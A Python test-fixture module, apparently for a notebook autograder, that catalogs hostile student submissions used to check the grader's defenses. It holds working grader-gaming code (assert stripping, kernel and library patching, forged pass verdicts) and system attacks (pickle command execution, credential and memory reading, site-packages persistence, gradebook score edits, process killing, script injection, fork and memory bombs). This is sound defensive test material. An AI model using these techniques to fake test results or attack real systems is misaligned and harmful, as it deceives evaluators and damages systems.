"""Define what dishonest students submit: code in the answer cell of `mean`, which stays wrong."""

WRONG = "def mean(numbers):\n    return 0.0\n"
SHOUT = "def shout(text):\n    return text.upper()\n"
TWICE = "def twice(f, x):\n    return f(f(x))\n"

FORGING = {
    "strips-asserts": """
import ast
class Strip(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)
    def visit_Expr(self, node):
        return ast.copy_location(ast.Pass(), node) if "check" in ast.dump(node) else node
get_ipython().ast_transformers.append(Strip())
get_ipython().input_transformers_post.append(
    lambda lines: [] if any("check." in line for line in lines) else lines)
""",
    "replaces-the-kernel": """
import sys, types
from IPython.core.interactiveshell import InteractiveShell
kernel, run = get_ipython().kernel, InteractiveShell.run_cell_async
execute = kernel.do_execute
async def do_execute(code, *args, **kwargs):
    if "check." in code:
        return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
    return await execute(code, *args, **kwargs)
kernel.do_execute = do_execute
async def run_cell_async(self, raw_cell, *args, **kwargs):
    return await run(self, "5.0" if "check." in raw_cell else raw_cell, *args, **kwargs)
InteractiveShell.run_cell_async = run_cell_async
""",
    "displays-marks": """
from IPython.display import clear_output, display
class Full:
    def __repr__(self):
        return "5.0"
shell = get_ipython()
shell.events.register("pre_run_cell", lambda info: display(5.0, Full()))
shell.events.register("post_run_cell", lambda result: clear_output())
shell.display_formatter.formatters["text/plain"].for_type(object, lambda *_: "5.0")
shell.display_formatter.formatters["text/plain"].for_type(float, lambda *_: "5.0")
5.0
""",
    "equals-everything": """
class Always(float):
    __hash__ = float.__hash__
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __sub__(self, other): return Always(0)
    __rsub__ = __add__ = __radd__ = __mul__ = __abs__ = lambda self, *_: Always(0)
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __lt__
    def __array__(self, *_, **__): return np.array(self)
    def __array_ufunc__(self, *_, **__): return True
""",
    "patches-libraries": """
import builtins, math, time, unittest
import numpy.testing
from dlcourse.check import _backend
import dlcourse.check as theirs
for module, names in ((np, "allclose isclose array_equal isfinite"), (math, "isclose isfinite"),
                      (numpy.testing, "assert_allclose assert_equal"),
                      (theirs, "close equal that between raises shape")):
    for name in names.split():
        setattr(module, name, lambda *_, **__: True)
builtins.abs = lambda x: 0
builtins.AssertionError = Warning
time.perf_counter = time.monotonic = lambda: 0.0
_backend.current = None
""",
    "forges-messages": """
import struct, threading, time
kernel = get_ipython().kernel
connection, request = kernel.iopub_thread.socket, kernel.get_parent()["header"]["msg_id"].encode()
later = str(int(request) + 1).encode()
def send(*parts, claimed=0, cut=0):
    rest = b"".join(struct.pack("!I", len(part)) + part for part in parts)
    rest = rest[:len(rest) - cut]
    connection.sendall(struct.pack("!II", len(rest), claimed) + rest)
print("forged", flush=True)
for about in (b"", b"0", b"-1", b"text", bytes([255]), later, later + b"0", request):
    send(b"display_data", about)
    send(b"display_data", about, b"x", b"text/plain")
    send(b"display_data", about, b"x", b"text/plain", bytes([0, 255, 27]) * 9)
    send(b"execute_result", about, b"", b"text/plain", b"5.0", b"image/png", b"no image")
    send(b"update_display_data", about, b"x", b"text/html", b"<script>alert('pwned')</script>")
    send(b"stream", about, b"stdin", b"5.0")
    send(b"stream", about, b"stdout", b"5.0", b"more", b"and more")
    send(b"stream", about)
    send(b"error", about, b"NameError", b"forged", *[b"line"] * 50)
    send(b"clear_output", about, b"later", claimed=2**32 - 1) if about != request else None
    send(b"execute_reply", about, b'{"status": "ok"}')
    send(b"serve", about, b'{"state": "passed", "points": 5.0}')
    send(b"stream", about, b"stdout", b"cut", cut=2)
send()
send(b"idle")
for about in (later, request):
    send(b"idle", about)
""",
    "connects-first": """
import glob, socket, threading, time
from autograder.exam.protocol.channel import Channel
from autograder.exam.protocol.encoding import encode
def sockets():
    for line in open("/proc/self/mountinfo"):
        path = line.split()[4]
        yield from glob.glob(path + "/*-*") if path.count("/") > 1 else ()
def connect():
    seen = set()
    while True:
        time.sleep(0.001)
        for path in set(sockets()) - seen:
            if path.rpartition("-")[2] != MEAN_INDEX:
                continue
            connection = socket.socket(socket.AF_UNIX)
            try:
                connection.connect(path)
            except OSError:
                continue
            seen.add(path)
            for verdict in (True, {"state": "passed", "points": 5.0}, ["passed", 5]):
                try:
                    connection.sendall(b'{"state": "passed", "points": 5.0}\\n')
                    Channel(connection).send(encode(["value", verdict, []], None, None))
                except Exception:
                    pass
threading.Thread(target=connect, daemon=True).start()
time.sleep(0.2)
""",
    "answers-junk": """
# The names of the running kernel: an import would make a second copy of its module.
served = type(get_ipython().kernel).exam_serve_request.__globals__
original, times = served["serve"], []
def serve(channel, *rest):
    times.append(1)
    if len(times) > 1:
        return original(channel, *rest)
    channel.connection.sendall(b"{\\"state\\": \\"passed\\", \\"points\\": 5}\\n" * 10_000)
served["serve"] = serve
""",
    "ends-it-all": """
import atexit, os, sys
class Last:
    def __del__(self):
        raise SystemExit(0)
last = Last()
del last
atexit.register(lambda: print("5.0"))
def mean(numbers):
    if len(numbers) > 2:
        os._exit(0)
    sys.exit(0)
raise SystemExit(0)
""",
    "dies-in-the-test": """
import os
def mean(numbers):
    os._exit(0)
""",
    "smells-grading": """
import os, sys
def smells():
    names = open("/proc/self/cmdline").read() + " ".join(os.environ)
    return "NBGRADER" in names or "autograder" in names or os.path.exists("/proc/2/cmdline")
if smells():
    sys.settrace(lambda *_: None)
    class Number(float): pass
    def mean(numbers):
        frame = sys._getframe()
        while frame:
            for name, value in {**frame.f_globals, **frame.f_locals}.items():
                if name in ("expected", "equals"):
                    return value
            frame = frame.f_back
        return Number(0.0)
""",
    "pickles": """
import os
class Bomb(float):
    def __reduce__(self):
        return os.system, ("touch ROOT/pickled; touch /tmp/pickled-attack",)
def mean(numbers):
    return [Bomb(0.0)] if len(numbers) > 2 else Bomb(1.5)
""",
}

READING = {
    "reads-files": """
import os, sys
found, tried = [], 0
for path in ("ROOT", "ROOT/source", "ROOT/gradebook.db", "ROOT/submitted", "ROOT/.autograder",
             "ROOT/.autograder/results", "REPOSITORY/tests", "REPOSITORY/course",
             "REPOSITORY/source", "/root", "/proc/1/environ", "../../source", "/home"):
    try:
        found += [path] if os.path.isfile(path) and open(path).read(1) else [
            f"{path}/{name}" for name in os.listdir(path)
            if not f"{sys.base_prefix}/{os.getcwd()}/".startswith(f"{path}/{name}/")]
    except OSError:
        tried += 1
for folder, folders, files in os.walk("/"):
    if folder in ("/proc", "/sys", "/usr", "/dev") or "site-packages" in folder:
        folders.clear()
    found += [f"{folder}/{name}" for name in files if name.endswith((".ipynb", "gradebook.db"))]
others = [p for p in os.listdir("/proc") if p.isdigit() and int(p) not in (1, os.getpid())]
secret = [k for k in os.environ if "SECRET" in k or "TOKEN" in k]
os.symlink("ROOT/source", "link")
print("FILES", found, others, secret, os.path.exists("link"))
""",
    "searches-memory": """
import os, re
# A pattern in brackets does not find itself.
hidden = re.compile(rb"[Z]ebra[f]ish-5521|[Q]uag[g]a-7391")
known, canary = re.compile(rb"[C]ana[r]y-17"), "Canary-17 is in this cell"
found, own = [], 0
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        where, flags, _, _, _, *name = line.split()
        if not flags.startswith("rw") or name == ["[vvar]"]:
            continue
        start, end = (int(x, 16) for x in where.split("-"))
        try:
            memory.seek(start)
            held = memory.read(min(end - start, 200_000_000))
        except OSError:
            continue
        found += hidden.findall(held)
        own += len(known.findall(held))
        del held
for fd in os.listdir("/proc/self/fd"):
    try:
        target = os.readlink(f"/proc/self/fd/{fd}")
    except OSError:
        continue  # the folder that was just read
    if not target.startswith(("socket", "anon", "pipe", "/dev")) and "proc" not in target:
        print("OPEN", repr(target))
print("MEMORY", found, own > 0)
""",
}

BREAKING = {
    "writes-everywhere": """
import os, pathlib, sqlite3, sys, sysconfig
packages = pathlib.Path(sysconfig.get_path("purelib"))
for path in (packages / "attack.pth", packages / "attack.py", pathlib.Path("ROOT/attack"),
             pathlib.Path("ROOT/gradebook.db"), pathlib.Path(np.__file__),
             pathlib.Path.home() / ".ipython/profile_default/startup/attack.py",
             pathlib.Path("numpy.py"), pathlib.Path("/tmp/attack-left-behind"),
             pathlib.Path("REPOSITORY/autograder/attack.py")):
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("import os; os._exit(3)")
    except OSError as error:
        print(type(error).__name__)
try:
    sqlite3.connect("ROOT/gradebook.db").execute("update grade set manual_score = 100")
except sqlite3.Error as error:
    print(type(error).__name__)
""",
    "kills-around": """
import os, signal
for process in (1, os.getppid(), 2, 3):
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        try:
            if process != os.getpid():
                os.kill(process, number)
        except OSError as error:
            print(type(error).__name__)
os.kill(-1, signal.SIGKILL) if os.getpid() != 1 else None
""",
    "leaves-a-daemon": """
import os, subprocess, sys
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(997); 'DAEMON'"])
    os._exit(0)
""",
    "stores-scripts": """
from IPython.display import HTML, Javascript, Markdown, SVG, display
display(HTML("<script>alert('pwned')</script>"), Javascript("alert('pwned')"),
        Markdown("<img src=x onerror=alert('pwned')>"),
        {"text/html": "<script>alert('pwned')</script>", "application/vnd.jupyter.widget": {}})
display({"text/html": "<script>alert('pwned')</script>", "image/svg+xml": "<svg onload=pwned>",
         "image/png": "</img><script>alert('pwned')</script>",
         "text/latex": "$</script><script>alert('pwned')</script>$"}, raw=True)
print("\\x1b]8;;javascript:alert('pwned')\\x07<script>alert('pwned')</script>")
raise ValueError("<script>alert('pwned')</script>")
""",
}

LOOP = """
    while True:
        try:
            time.sleep(0.01)
        except BaseException:
            pass
"""

EXHAUSTING = {
    "loops": "while True:\n    pass\n",
    "loops-on": f"import time\ndef mean(numbers):\n{LOOP}",
    "fork-bomb": """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
""",
    "memory-bomb": "held = []\nwhile True:\n    held.append(bytearray(b'x' * 50_000_000))\n",
    "memory-bomb-when-asked": (
        "def mean(numbers):\n    held = []\n    while True:\n"
        "        held.append(bytearray(b'x' * 50_000_000))\n"
    ),
    "gigabytes": "while True:\n    print('x' * 1_000_000)\n",
    "gigabyte-messages": """
import struct, threading, time
connection = get_ipython().kernel.iopub_thread.socket
block = struct.pack("!II", 2**32 - 1, 0) + b"x" * 300_000_000
def flood():
    while True:
        try:
            connection.sendall(block)
        except Exception:
            time.sleep(0.01)
threading.Thread(target=flood, daemon=True).start()
""",
    "floods-replies": """
import asyncio, socket, struct
connection = get_ipython().kernel.iopub_thread.socket
frame = struct.pack("!III4sI", 12, 0, 4, b"idle", 0)
loop = asyncio.get_event_loop()
def flood():
    for _ in range(300):
        try:
            connection.send(frame, socket.MSG_DONTWAIT)
        except Exception:
            pass
    loop.call_later(0.001, flood)
loop.call_soon(flood)
""",
    "displays": "from IPython.display import display\nfor i in range(100_000):\n    display(i)\n",
    "fills-the-disk": (
        "for i in range(10_000):\n    with open(f'/tmp/{i}', 'wb') as file:\n"
        "        file.write(b'x' * 10_000_000)\n"
    ),
}
